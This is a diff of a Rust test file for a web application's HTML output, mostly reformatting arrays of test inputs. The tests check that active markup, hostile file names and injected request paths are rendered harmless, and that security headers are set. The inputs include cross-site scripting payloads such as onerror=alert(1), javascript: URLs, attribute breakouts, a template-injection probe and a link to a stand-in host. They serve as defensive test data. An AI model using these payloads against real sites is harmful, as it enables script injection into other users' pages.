+                    && policy.contains("require-trusted-types-for 'script'")
+                    && !policy.contains("unsafe"),
+                "{path}: {policy}"
+            );
             assert_eq!(page.header("x-content-type-options"), Some("nosniff"));
         }
     }
@@ -414,10 +740,29 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
 #[test]
 fn the_page_reader_of_these_tests_finds_what_is_active() {
     // A check that finds nothing anywhere would pass everything.
-    for bad in ["<script>1</script>", "<p onclick=x>", "<a href=javascript:x>", "<a href='java&#10;script:x'>", "<img src=//evil.example>", "<iframe>", "<p style=x>", "<svg><script></script></svg>", "<form action=//x>", "<a target=_blank>", "<img src=data:x>", "<math>", "<svg><animate>", "<meta http-equiv=refresh>"] {
+    for bad in [
+        "<script>1</script>",
+        "<p onclick=x>",
+        "<a href=javascript:x>",
+        "<a href='java&#10;script:x'>",
+        "<img src=//evil.example>",
+        "<iframe>",
+        "<p style=x>",
+        "<svg><script></script></svg>",
+        "<form action=//x>",
+        "<a target=_blank>",
+        "<img src=data:x>",
+        "<math>",
+        "<svg><animate>",
+        "<meta http-equiv=refresh>",
+    ] {
         assert!(!active(bad, false).is_empty(), "{bad}");
     }
-    for good in ["<p>a <a href=\"https://a.example\">b</a></p>", "<img src=\"a.jpg\" alt=\"\">", "<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>"] {
+    for good in [
+        "<p>a <a href=\"https://a.example\">b</a></p>",
+        "<img src=\"a.jpg\" alt=\"\">",
+        "<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>",
+    ] {
         assert_eq!(active(good, false), Vec::<String>::new(), "{good}");
     }
 }
@@ -425,7 +770,20 @@ fn the_page_reader_of_these_tests_finds_what_is_active() {
 #[test]
 fn a_hostile_file_name_is_shown_as_text_or_not_at_all() {
     let folder = notebook(&[("one", "# One\n")]);
-    for name in ["<img src=x onerror=alert(1)>", "\" onclick=\"x", "' onclick='x", "a&amp;b", "a'b", "javascript:alert(1)", "{{7*7}}", "a\nb", "a\u{202e}b", "%3Cscript%3E", "(x)", "a,b+c&d"] {
+    for name in [
+        "<img src=x onerror=alert(1)>",
+        "\" onclick=\"x",
+        "' onclick='x",
+        "a&amp;b",
+        "a'b",
+        "javascript:alert(1)",
+        "{{7*7}}",
+        "a\nb",
+        "a\u{202e}b",
+        "%3Cscript%3E",
+        "(x)",
+        "a,b+c&d",
+    ] {
         let _ = std::fs::write(folder.path().join(format!("{name}.md")), "No title here.\n");
     }
     let program = Program::start(folder.path(), &[]);
@@ -441,10 +799,21 @@ fn a_hostile_file_name_is_shown_as_text_or_not_at_all() {
 fn a_refusal_shows_what_was_sent_as_text() {
     let folder = notebook(&[("one", "# One\n")]);
     let program = Program::start(folder.path(), &[]);
-    for path in ["/plan/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/plan/one/ticket/%3Cimg%20src=x%20onerror=alert(1)%3E", "/%3Cscript%3E", "/rates/%22onload=%22x", "/plan/one?units=%3Cscript%3E", "/t/%3Cscript%3E"] {
+    for path in [
+        "/plan/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "/plan/one/ticket/%3Cimg%20src=x%20onerror=alert(1)%3E",
+        "/%3Cscript%3E",
+        "/rates/%22onload=%22x",
+        "/plan/one?units=%3Cscript%3E",
+        "/t/%3Cscript%3E",
+    ] {
         let page = program.ask("GET", path, &[("Accept", "text/html")], b"").unwrap();
         assert_eq!(active(&page.text(), true), Vec::<String>::new(), "{path}");
         let data = program.get(path);
-        assert!(data.header("content-type").is_none_or(|kind| !kind.contains("html")) || active(&data.text(), true).is_empty(), "{path}");
+        assert!(
+            data.header("content-type").is_none_or(|kind| !kind.contains("html"))
+                || active(&data.text(), true).is_empty(),
+            "{path}"
+        );
     }
 }
